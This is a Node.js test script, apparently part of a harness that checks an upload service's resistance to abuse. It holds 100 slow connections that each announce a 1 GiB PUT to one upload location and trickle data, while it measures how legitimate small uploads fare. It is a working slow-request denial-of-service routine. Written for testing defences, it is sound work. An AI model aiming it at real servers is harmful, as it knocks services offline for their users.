// An attacker without a key, who has the location of one upload, sends to it on 100 connections, each just fast enough
// not to be cut. Meanwhile a client with a key uploads small files.
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { runAttack } from './harness.mjs'

const CONNECTIONS = 100
const ANNOUNCED_BYTES = 1024 * 1024 * 1024
const PIECE = Buffer.alloc(32 * 1024)
const PIECE_EVERY_MS = 1_000
const UPLOAD_PAUSE_MS = 100
const UPLOAD_MS_MAX = 5_000

await runAttack({
  name: 'one upload location',
  attackMs: 12_000,
  async attack({ url, key, signal }) {
    const location = new URL(
      await createUpload(url, key).then(({ uploadLocation }) => uploadLocation),
    )
    const head =
      `PUT ${location.pathname}${location.search} HTTP/1.1\r\nhost: ${location.host}\r\n` +
      `content-type: image/png\r\ncontent-length: ${ANNOUNCED_BYTES}\r\n\r\n`
    const held = new Set()
    let opened = 0
    const hold = () => {
      const socket = connect(Number(location.port), location.hostname)
      opened++
      held.add(socket)
      socket.on('error', () => {})
      socket.on('close', () => held.delete(socket))
      socket.resume()
      socket.write(head)
    }
    const sending = setInterval(() => {
      while (held.size < CONNECTIONS) hold()
      for (const socket of held) socket.write(PIECE)
    }, PIECE_EVERY_MS)
    await sleep(2 * PIECE_EVERY_MS)
    const done = []
    let failed = 0
    while (!signal.aborted) {
      const begunAt = performance.now()
      const isDone = await uploadWhole(url, key).catch(() => false)
      if (isDone) done.push(Math.round(performance.now() - begunAt))
      else failed++
      await sleep(UPLOAD_PAUSE_MS)
    }
    clearInterval(sending)
    for (const socket of held) socket.destroy()
    done.sort((a, b) => a - b)
    const p50 = done[Math.floor(done.length / 2)]
    return { opened, uploads: { done: done.length, failed, p50, max: done.at(-1) } }
  },
})

async function send(method, url, headers, body) {
  const signal = AbortSignal.timeout(UPLOAD_MS_MAX)
  const response = await fetch(url, { method, headers, body, signal })
  const text = await response.text()
  if (response.status !== 200) throw new Error(`${method} answered ${response.status}`)
  return JSON.parse(text).data
}

function createUpload(url, key) {
  const headers = { authorization: `Bearer ${key}`, 'content-type': 'application/json' }
  const body = JSON.stringify({ contentType: 'image/png', fileName: 'a.png' })
  return send('POST', `${url}/apps/a/uploads`, headers, body)
}

async function uploadWhole(url, key) {
  const { uploadID, uploadLocation } = await createUpload(url, key)
  await send('PUT', uploadLocation, { 'content-type': 'image/png' }, Buffer.alloc(10_000))
  const headers = { authorization: `Bearer ${key}` }
  await send('POST', `${url}/apps/a/uploads/${uploadID}/complete`, headers)
  return true
}
